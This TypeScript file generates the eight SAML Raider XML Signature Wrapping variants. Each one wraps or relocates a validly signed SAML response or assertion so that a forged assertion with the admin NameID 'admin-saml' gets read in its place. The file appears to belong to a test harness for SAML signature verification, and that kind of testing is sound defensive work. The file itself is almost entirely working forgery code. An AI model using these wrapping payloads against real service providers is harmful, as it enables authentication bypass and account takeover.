import { type AnswerOptions, assertionXml, responseXml, signed, type Signer } from './a-saml-provider.js';

/** The eight of SAML Raider: which part is signed, and where the forged one stands. */
export function wrapped(options: AnswerOptions, variant: number, idp: Signer): string {
  const evil = assertionXml({ ...options, nameId: 'admin-saml', assertionId: '_evil' });
  if (variant <= 2) {
    const response = signed(responseXml(assertionXml(options), options), 'Response', idp);
    const signature = /<Signature[\s\S]*<\/Signature>/.exec(response)![0];
    const forged = responseXml(evil, options);
    const original = response.replace(signature, '');
    const within =
      variant === 1
        ? signature.replace('</Signature>', `<Object>${original}</Object></Signature>`)
        : `${original}${signature}`;
    return forged.replace('</saml:Issuer>', `</saml:Issuer>${within}`);
  }
  const good = signed(assertionXml(options), 'Assertion', idp);
  const signature = /<Signature[\s\S]*<\/Signature>/.exec(good)![0];
  const bare = good.replace(signature, '');
  const close = '</saml:Assertion>';
  switch (variant) {
    case 3:
      return responseXml(`${evil}${good}`, options);
    case 4:
      return responseXml(evil.replace(close, `${good}${close}`), options);
    case 5:
      return responseXml(`${evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)}${bare}`, options);
    case 6:
      return responseXml(
        evil.replace(
          '</saml:Issuer>',
          `</saml:Issuer>${signature.replace('</Signature>', `<Object>${bare}</Object></Signature>`)}`,
        ),
        options,
      );
    case 7:
      return responseXml(`<samlp:Extensions>${evil}</samlp:Extensions>${good}`, options);
    default:
      return responseXml(
        evil.replace(
          '</saml:Issuer>',
          `</saml:Issuer>${signature.replace('</Signature>', `<Object>${good}</Object></Signature>`)}`,
        ),
        options,
      );
  }
}
